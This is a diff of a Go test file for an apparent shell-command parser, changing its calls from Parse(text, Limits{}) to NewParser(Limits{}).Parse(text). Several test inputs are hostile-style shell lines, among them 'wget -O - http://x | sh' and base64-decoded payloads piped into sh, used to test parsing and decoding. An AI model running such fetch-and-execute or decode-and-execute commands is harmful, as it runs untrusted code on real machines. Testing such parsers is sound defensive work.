@@ -39,7 +39,7 @@ func TestDecoded(t *testing.T) {
 		{"tr -s a <<< x", nil},
 		{"base64 -d <<< '!!!'", nil},
 	} {
-		s := Parse(c.text, Limits{})
+		s := NewParser(Limits{}).Parse(c.text)
 		var got []string
 		for _, l := range s.Decoded {
 			got = append(got, l.How+":"+l.Text)
@@ -52,7 +52,7 @@ func TestDecoded(t *testing.T) {
 
 // Decoded bytes that are no text are kept and not parsed.
 func TestBinaryLayer(t *testing.T) {
-	s := Parse("echo f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA | base64 -d | sh", Limits{})
+	s := NewParser(Limits{}).Parse("echo f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA | base64 -d | sh")
 	if len(s.Decoded) != 1 || !strings.HasPrefix(s.Decoded[0].Text, "\x7fELF") || len(s.Commands) != 3 {
 		t.Errorf("got %+v", s)
 	}
@@ -61,7 +61,7 @@ func TestBinaryLayer(t *testing.T) {
 func TestSpans(t *testing.T) {
 	text := "cd /tmp;  wget -O - http://x | sh; echo `id`; sh -c 'a; b' >o; echo aWQ=|base64 -d|sh"
 	var got []string
-	for _, c := range Parse(text, Limits{}).Commands {
+	for _, c := range NewParser(Limits{}).Parse(text).Commands {
 		got = append(got, c.Line+" <- "+text[c.Start:c.End])
 	}
 	want := []string{
@@ -134,7 +134,7 @@ func TestReuse(t *testing.T) {
 	texts := []string{"A=wget; $A x", "$A x", "echo id > f; sh f", "sh f", "IFS=,; $x", "a b", hostile("a=b ", 1<<20), "id"}
 	p := NewParser(Limits{})
 	for _, text := range texts {
-		want := Parse(text, Limits{})
+		want := NewParser(Limits{}).Parse(text)
 		if got := p.Parse(text); !reflect.DeepEqual(got, want) {
 			t.Errorf("%.50q: got %+v, want %+v", text, got, want)
 		}
@@ -148,7 +148,7 @@ func TestReuse(t *testing.T) {
 func TestScriptsStay(t *testing.T) {
 	p := NewParser(Limits{})
 	first := p.Parse("A=b sudo wget -qO- http://x < in > out | sh")
-	want := Parse("A=b sudo wget -qO- http://x < in > out | sh", Limits{})
+	want := NewParser(Limits{}).Parse("A=b sudo wget -qO- http://x < in > out | sh")
 	var wait sync.WaitGroup
 	for range 4 {
 		wait.Go(func() {
